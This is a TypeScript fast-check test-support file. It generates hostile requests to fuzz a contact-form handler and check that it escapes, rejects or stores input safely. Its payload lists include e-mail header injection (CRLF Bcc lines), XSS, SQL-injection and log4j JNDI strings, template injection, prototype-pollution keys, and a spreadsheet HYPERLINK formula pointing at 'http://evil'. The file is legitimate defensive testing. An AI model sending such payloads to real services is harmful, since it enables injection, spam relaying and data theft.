import fc from 'fast-check'
import { contactApi, contactFields } from '#shared/contact.ts'
import { httpEvent, validSubmission } from './test-support.ts'

/**
 * Hostile input, generated: fast-check throws thousands of requests at the real handler (Middy,
 * the body parsers, zod, the store and the e-mail code), with DynamoDB and SES replaced by an
 * in-memory table and an outbox (in-memory-contact.ts). Whatever arrives, the answer is a 4xx or
 * a 201 (a 303 for the form) with a JSON message, only valid enquiries are stored, and nothing a
 * visitor typed reaches an e-mail header unescaped. Run counts are below; together they exceed
 * 10,000.
 */
export const RUNS = {
  jsonPayloads: 4_000,
  rawBodies: 2_500,
  requests: 1_500,
  formPosts: 2_500,
} as const

/** Generators of hostile requests for the contact handler (fast-check arbitraries). */
/** Text that tries to break something: headers, markup, encodings, storage. */
export const nasty = fc.constantFrom(
  '\r\nBcc: victim@example.com',
  '\nSubject: hijacked',
  '%0d%0aBcc: victim@example.com',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</td></tr></table><h1>Pay now</h1>',
  '<!--',
  ']]>',
  '&lt;already escaped&gt;',
  '\u0000\u0007\u001b[31m',
  '\u2028\u2029\u0085',
  '\ud800',
  '\udfff',
  '\ud83d\ude00',
  'e\u0301\u200b\u202e\ufeff',
  "Robert'); DROP TABLE enquiries;--",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup, sent as text
  '${jndi:ldap://x}',
  '{{7*7}}',
  '=HYPERLINK("http://evil")',
  '__proto__',
  ' ',
  '',
)
export const anyText = fc.oneof(
  fc.string(),
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: 'binary' }),
  fc.string({ unit: 'binary-ascii' }),
  nasty,
  fc
    .array(fc.oneof(fc.string({ maxLength: 8 }), nasty), { maxLength: 8 })
    .map((parts) => parts.join('')),
)
/** Text the schema accepts as a field but that still carries something hostile. */
export const plausibleText = (minLength: number) =>
  fc
    .tuple(fc.string({ minLength: 1, maxLength: 12 }), anyText, fc.string({ maxLength: 12 }))
    .map(([head, middle, tail]) => `Ok${head}${middle}${tail}`.padEnd(minLength, '.'))
export const hugeText = fc.integer({ min: 90, max: 20_000 }).map((length) => 'x'.repeat(length))
export const wrongType = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.string(), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 }),
  fc.jsonValue({ maxDepth: 3 }),
)
export const emailAddress = fc.oneof(
  fc.emailAddress(),
  fc.constantFrom(
    'Ada@Example.co.uk',
    ' ada@example.co.uk ',
    'ada@example.co.uk\r\nBcc: victim@example.com',
    'ada@example.co.uk\nX-Injected: 1',
    '"ada\r\n"@example.co.uk',
    'ada@exa mple.co.uk',
    'ada@@example.co.uk',
    '<ada@example.co.uk>',
    'Ada Lovelace <ada@example.co.uk>',
    'ada@example.co.uk, victim@example.com',
    `${'a'.repeat(250)}@example.co.uk`,
  ),
  anyText,
)

/** A value for one field: usually plausible, often hostile, sometimes of the wrong type. */
export const fieldValue = (field: (typeof contactFields)[number]) =>
  fc.oneof(
    {
      weight: 4,
      arbitrary: field === 'email' ? emailAddress : plausibleText(field === 'message' ? 10 : 1),
    },
    { weight: 2, arbitrary: anyText },
    { weight: 1, arbitrary: hugeText },
    { weight: 1, arbitrary: wrongType },
  )

export const hostileKey = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'id',
    'createdAt',
    'expiresAt',
    'emailStatus',
    'emailPending',
    'emailAttempts',
    'emailNormalised',
    contactApi.honeypotField,
  ),
  fc.string({ maxLength: 10 }),
)

/** A JSON object as text, so `__proto__` and repeated keys reach the parser as sent. */
export function objectText(entries: [string, unknown][]): string {
  return `{${entries.map(([key, value]) => `${JSON.stringify(key)}:${JSON.stringify(value) ?? 'null'}`).join(',')}}`
}

export const extraEntries = fc.array(
  fc.tuple(
    hostileKey,
    fc.oneof(
      anyText,
      wrongType,
      fc.constant({ admin: true }),
      fc.constant({ prototype: { admin: true } }),
    ),
  ),
  { maxLength: 4 },
)

/** A valid enquiry with one to three fields replaced by hostile text the schema still takes. */
export const hostileButValidEntries = fc
  .tuple(
    fc.dictionary(
      fc.constantFrom(...contactFields),
      fc.oneof(plausibleText(10), fc.constantFrom("o'brien+x@example.co.uk", 'ADA@EXAMPLE.CO.UK')),
      { minKeys: 1, maxKeys: 3 },
    ),
    fc.option(extraEntries, { nil: [], freq: 3 }),
  )
  .map(([replaced, extras]) => [
    ...Object.entries({ ...validSubmission, ...replaced }),
    ...(extras as [string, unknown][]),
  ])

/** The seven fields, each present or missing, plus extra keys, some of them hostile. */
export const anyEntries = fc
  .tuple(
    fc.tuple(
      ...contactFields.map((field) =>
        fc
          .option(fieldValue(field), { nil: undefined, freq: 8 })
          .map((value) => [field, value] as const),
      ),
    ),
    extraEntries,
  )
  .map(([fields, extras]) => [
    ...fields
      .filter(([, value]) => value !== undefined)
      .map(([k, v]) => [k, v] as [string, unknown]),
    ...extras.map(([k, v]) => [k, v] as [string, unknown]),
  ])

export const payloadEntries = fc.oneof(anyEntries, hostileButValidEntries)

export const jsonContentTypes = [
  'application/json',
  'application/json; charset=utf-8',
  'Application/JSON; charset=UTF-8',
  'application/json ; charset=utf-8',
  'application/json;charset=utf-8',
  'application/vnd.api+json',
  'application/problem+json',
]
export const otherContentTypes = [
  'text/plain',
  'text/html',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/jsonx',
  'application/json-patch',
  ' application/json',
  'json',
  '',
  'application/json\r\nX-Injected: 1',
]
export const jsonContentTypePattern = /^application\/([a-z0-9.+-]+\+)?json\s*(;|$)/i
export const contentTypeHeader = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...jsonContentTypes) },
  { weight: 2, arbitrary: fc.constantFrom(...otherContentTypes) },
  { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
)
export const headerName = fc.constantFrom(
  'content-type',
  'Content-Type',
  'CONTENT-TYPE',
  'Content-type',
)
export const idempotencyKey = fc.oneof(
  { weight: 3, arbitrary: fc.constant(undefined) },
  { weight: 3, arbitrary: fc.uuid() },
  { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
)

export function requestEvent(options: {
  body: string | undefined
  contentType?: string | undefined
  contentTypeName?: string
  key?: string | undefined
  base64?: boolean
  method?: string
  path?: string
}) {
  const headers: Record<string, string> = {}
  if (options.contentType !== undefined) {
    headers[options.contentTypeName ?? 'content-type'] = options.contentType
  }
  if (options.key !== undefined) headers['idempotency-key'] = options.key
  return httpEvent({
    method: options.method ?? 'POST',
    path: options.path ?? contactApi.path,
    headers,
    ...(options.body !== undefined && {
      body: options.base64 ? Buffer.from(options.body).toString('base64') : options.body,
    }),
    isBase64Encoded: options.base64 ?? false,
  })
}
